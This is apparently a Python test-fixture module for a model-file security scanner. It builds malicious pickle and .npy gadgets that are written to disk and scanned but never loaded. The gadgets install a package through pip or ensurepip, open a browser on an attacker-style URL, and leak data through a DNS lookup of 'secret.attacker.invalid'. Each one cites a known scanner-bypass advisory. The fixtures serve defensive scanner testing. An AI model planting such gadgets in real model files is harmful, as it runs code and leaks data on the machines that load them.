"""Static-only cases: gadgets whose effect could not be limited to the canary.

They are written and scanned, never loaded (``MaliciousCase.runtime`` is False).
"""

from __future__ import annotations

from pathlib import Path

import numpy as np

from .assembler import Call, Global, dumps, write_npy
from .cases import MaliciousCase, numpy_load
from .registry import Canary, pickle_case, static_only

# --- static-only: side effects we must not risk in a test -----------------------------------

_STATIC_ONLY = "if a loader ran it, its effect could not be limited to the canary"


@static_only
def pip_main_install(directory: Path, canary: Canary) -> MaliciousCase:
    payload = Call(Global("pip", "main"), ["install", "--quiet", "mlsecops-canary-package"])
    return pickle_case(
        directory,
        "pip_main_install",
        dumps(payload),
        technique="pip.main(['install', pkg]) installs (and so runs) any package at load time.",
        source="CVE-2025-1716 (picklescan did not treat pip as unsafe).",
        runtime=False,
        reason=f"pip would reach the network and change the environment ({_STATIC_ONLY})",
    )


@static_only
def ensurepip_run_pip(directory: Path, canary: Canary) -> MaliciousCase:
    payload = Call(Global("ensurepip", "_run_pip"), ["install", "mlsecops-canary-package"])
    return pickle_case(
        directory,
        "ensurepip_run_pip",
        dumps(payload),
        technique="ensurepip._run_pip(args), a private helper that runs pip in a subprocess.",
        source="picklescan GHSA-xp4f-hrf8-rxw7 (ensurepip._run_pip).",
        runtime=False,
        reason=f"pip would reach the network ({_STATIC_ONLY})",
    )


@static_only
def webbrowser_open(directory: Path, canary: Canary) -> MaliciousCase:
    payload = Call(Global("webbrowser", "open"), "https://example.invalid/collect?host=x")
    return pickle_case(
        directory,
        "webbrowser_open",
        dumps(payload),
        technique="webbrowser.open(url) launches the user's browser on an attacker URL.",
        source="modelscan's HIGH list (webbrowser); picklescan's blocklist.",
        runtime=False,
        reason=f"a browser would open ({_STATIC_ONLY})",
    )


@static_only
def ssl_dns_exfiltration_npy(directory: Path, canary: Canary) -> MaliciousCase:
    lookup = Call(Global("ssl", "get_server_certificate"), ("secret.attacker.invalid", 443))
    path = write_npy(directory / "ssl_dns_exfiltration_npy.npy", np.array([lookup], dtype=object))
    return MaliciousCase(
        name="ssl_dns_exfiltration_npy",
        technique="An object-array .npy whose element calls ssl.get_server_certificate: the DNS "
        "lookup of an attacker's host name leaks data.",
        source="picklescan tests/data2/dns_exfiltration.npy.",
        path=path,
        load=numpy_load(path, allow_pickle=True),
        runtime=False,
        reason=f"it would resolve a host name ({_STATIC_ONLY})",
    )
